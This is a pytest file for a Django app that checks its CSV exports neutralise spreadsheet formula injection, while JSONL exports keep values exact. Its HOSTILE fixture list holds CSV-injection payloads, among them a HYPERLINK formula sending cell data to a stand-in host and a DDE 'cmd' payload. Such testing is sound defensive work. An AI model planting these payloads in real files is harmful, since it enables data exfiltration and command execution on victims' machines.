"""CSV outputs never carry a live spreadsheet formula (finding 9 of issue 12)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command

from gvrs.accounts.models import AuditEvent
from gvrs.data.csvsafe import inert
from gvrs.data.mapping import load_format
from gvrs.incidents.importing import import_file
from tests.importing_helpers import row, write_csv

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-119.01", "-119.01"),
        ("+1.5e3", "+1.5e3"),
        ("East Side", "East Side"),
        ("", ""),
    ],
)
def test_inert(value, expected):
    assert inert(value) == expected


@pytest.mark.django_db
def test_gvrs_incidents_csv_escapes_formulas(tmp_path):
    rows = [row(f"F-{i}", area=value) for i, value in enumerate(HOSTILE)]
    assert import_file(write_csv(tmp_path / "in.csv", rows), load_format("gvrs")).ok
    out = io.StringIO()
    call_command("incidents", format="csv", stdout=out)
    cells = [cell for line in csv.reader(io.StringIO(out.getvalue())) for cell in line]
    for value in HOSTILE:
        assert value not in cells
        assert "'" + value in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


@pytest.mark.django_db
def test_rejects_files_escape_formulas(tmp_path):
    rows = [row("R-1", kind=HOSTILE[0]), row("R-2", area=HOSTILE[1]), row("R-3", victim_age="x")]
    rejects = tmp_path / "rejects.csv"
    report = import_file(
        write_csv(tmp_path / "in.csv", rows),
        load_format("gvrs"),
        accept_valid=True,
        rejects_path=rejects,
    )
    assert report.rejects_written == 2
    with open(rejects, newline="") as fh:
        cells = [cell for line in csv.reader(fh) for cell in line]
    assert "'" + HOSTILE[0] in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


@pytest.mark.django_db
def test_partner_audit_csv_escapes_formulas_and_jsonl_keeps_them_exact(tmp_path):
    for i, value in enumerate(HOSTILE):
        AuditEvent.objects.create(
            action="participant.intake",
            object_type="partners.Participant",
            object_id=str(i),
            detail=value,
            organization=value,
        )
    out = tmp_path / "audit.csv"
    call_command("partner_audit", out=str(out), stdout=io.StringIO())
    with open(out, newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["detail"] for r in rows] == ["'" + value for value in HOSTILE]
    assert [r["organization"] for r in rows] == ["'" + value for value in HOSTILE]
    cells = [cell for r in rows for cell in r.values()]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    lines = tmp_path / "audit.jsonl"
    call_command("partner_audit", out=str(lines), format="jsonl", stdout=io.StringIO())
    assert [json.loads(line)["detail"] for line in lines.read_text().splitlines()] == HOSTILE
